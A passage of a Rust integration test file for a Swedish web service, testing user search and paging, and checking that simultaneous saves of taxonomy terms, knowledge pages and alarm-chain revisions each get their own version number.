        .await
        .expect("unit");
    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap_or_default());
    let flags: Value = check(text)
        .await
        .expect("check")
        .json()
        .await
        .expect("json");
    assert_eq!(flags, json!([]));
    // A person in the same place is still found.
    let flags: Value = check("Igår såg vi Johan Andersson vid Parkleken Zorbaberg.")
        .await
        .expect("check")
        .json()
        .await
        .expect("json");
    assert_eq!(flags.as_array().map(Vec::len), Some(1), "{flags}");
    app.shutdown().await;
});

both_backends!(the_user_list_is_searched_and_paged, |app| {
    let admin = app.token("admin@demo.example").await;
    // Enough people for three pages of 50, one of them with a name that starts with Å.
    for n in 0..120 {
        let r = app
            .api(Method::POST, "/api/v1/users", &admin)
            .json(&json!({"email": format!("person{n:03}@demo.example"), "name": format!("Person {n:03}"),
                "grant": {"role": "employee"}}))
            .send()
            .await
            .expect("create");
        assert_eq!(r.status(), 201);
    }
    let r = app
        .api(Method::POST, "/api/v1/users", &admin)
        .json(&json!({"email": "asa.orn@demo.example", "name": "Åsa Örn", "grant": {"role": "employee"}}))
        .send()
        .await
        .expect("create");
    assert_eq!(r.status(), 201);
    let total: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM users")
        .fetch_one(app.db.pool())
        .await
        .expect("count");

    let r = app
        .api(Method::GET, "/api/v1/users?page=2", &admin)
        .send()
        .await
        .expect("list");
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["x-total-count"], total.to_string().as_str());
    let link = r.headers()["link"].to_str().expect("link").to_string();
    assert!(
        link.contains("page=3>; rel=\"next\"") && link.contains("page=1>; rel=\"prev\""),
        "{link}"
    );
    let users: Vec<Value> = r.json().await.expect("json");
    assert_eq!(users.len(), 50);

    // Search in any case, by part of a name or an address; a Swedish capital is found by its small letter.
    let r = app
        .api(Method::GET, "/api/v1/users?q=%C3%A5sa", &admin)
        .send()
        .await
        .expect("search");
    let found: Vec<Value> = r.json().await.expect("json");
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["name"], "Åsa Örn");
    let r = app
        .api(Method::GET, "/api/v1/users?q=PERSON11&per_page=5", &admin)
        .send()
        .await
        .expect("search");
    assert_eq!(r.headers()["x-total-count"], "10");
    assert_eq!(r.json::<Vec<Value>>().await.expect("json").len(), 5);

    // The page: a search field, one page of rows and a pager that keeps the search.
    app.sign_in("admin@demo.example").await;
    let (status, html) = app.get_text("/personer?q=person&page=2").await;
    assert_eq!(status, 200);
    assert!(
        html.contains("Person 050") && !html.contains("Person 049") && !html.contains("Person 100"),
        "page 2 holds rows 51–100"
    );
    assert!(
        html.contains("Sida 2 av 3 (120 användare)"),
        "the pager says where the page is"
    );
    assert!(
        html.contains("/personer?q=person&#38;page=3\" rel=\"next\"")
            || html.contains("/personer?q=person&amp;page=3\" rel=\"next\""),
        "the next page keeps the search"
    );
    assert!(
        html.contains("name=\"q\"") && html.contains("value=\"person\""),
        "the search field keeps the term"
    );
});

/// Sends `n` requests at once (each made by `request(i)`); returns their statuses.
async fn all_at_once(n: usize, request: impl Fn(usize) -> reqwest::RequestBuilder) -> Vec<u16> {
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..n {
        let request = request(i);
        tasks.spawn(async move {
            match request.send().await {
                Ok(r) => r.status().as_u16(),
                Err(_) => 0,
            }
        });
    }
    let mut statuses = Vec::new();
    while let Some(s) = tasks.join_next().await {
        statuses.push(s.expect("task"));
    }
    statuses
}

/// The numbers `sql` lists for the record `id`.
async fn numbers(app: &TestApp, sql: &str, id: i64) -> Vec<i64> {
    sqlx::query_scalar(sql)
        .bind(id)
        .fetch_all(app.db.pool())
        .await
        .expect("numbers")
}

// Writers who save at once where each save takes the next number (a new term publishes the
// next taxonomy version, a page edit the page's next version, a chain's revision the
// chain's next version): on PostgreSQL both used to read the same highest number and the
// second insert broke its unique key, a 500. Now each waits for the other and gets its own
// number.
both_backends!(saves_that_take_the_next_number_at_once_all_succeed, |app| {
    let central = app.token("central@demo.example").await;
    const N: usize = 16;

    let versions_before = count(&app, "SELECT COUNT(*) FROM taxonomy_versions").await;
    let statuses = all_at_once(N, |i| {
        app.api(Method::POST, "/api/v1/taxonomy/terms", &central)
            .json(&json!({"vocabulary": "phenomenon", "code": format!("samtidig{i}"), "label": format!("Samtidig {i}")}))
    })
    .await;
    assert!(
        statuses.iter().all(|s| *s == 201),
        "new terms at once: {statuses:?}"
    );
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM taxonomy_versions").await,
        versions_before + N as i64
    );

    let (status, page) = crate::common::call(&app, Method::POST, "/api/v1/knowledge/pages", &central,
        json!({"kind": "routine", "title": "Rutin för samtidiga ändringar", "body": "Första lydelsen."})).await;
    assert_eq!(status, 201, "{page}");
    let page = page["id"].as_i64().expect("page");
    let statuses = all_at_once(N, |i| {
        app.api(Method::PUT, &format!("/api/v1/knowledge/pages/{page}"), &central)
            .json(&json!({"title": "Rutin för samtidiga ändringar", "body": format!("Lydelse nummer {i}.")}))
    })
    .await;
    assert!(
        statuses.iter().all(|s| *s == 200),
        "page edits at once: {statuses:?}"
    );
    assert_eq!(
        numbers(
            &app,
            "SELECT version FROM knowledge_versions WHERE page_id = $1 ORDER BY version",
            page
        )
        .await,
        (1..=N as i64 + 1).collect::<Vec<_>>()
    );

    let steps =
        json!([{"role": "social_emergency", "email": "jour@stad.example", "wait_minutes": "10"}]);
    let (status, chain) = crate::common::call(
        &app,
        Method::POST,
        "/api/v1/alarm-chains",
        &central,
        json!({"name": "Kedja för samtidiga versioner", "steps": steps}),
    )
    .await;
    assert_eq!(status, 201, "{chain}");
    let chain = chain["id"].as_i64().expect("chain");
    let statuses = all_at_once(N, |i| {
        app.api(
            Method::POST,
            &format!("/api/v1/alarm-chains/{chain}/versions"),
            &central,
        )
        .json(&json!({"name": format!("Kedja, version från skrivare {i}"), "steps": steps}))
    })
    .await;
    assert!(
        statuses.iter().all(|s| *s == 201),
        "chain revisions at once: {statuses:?}"
    );
    assert_eq!(
        numbers(
            &app,
            "SELECT version FROM alarm_chain_versions WHERE chain_id = $1 ORDER BY version",
            chain
        )
        .await,
        (1..=N as i64 + 1).collect::<Vec<_>>()
    );
});
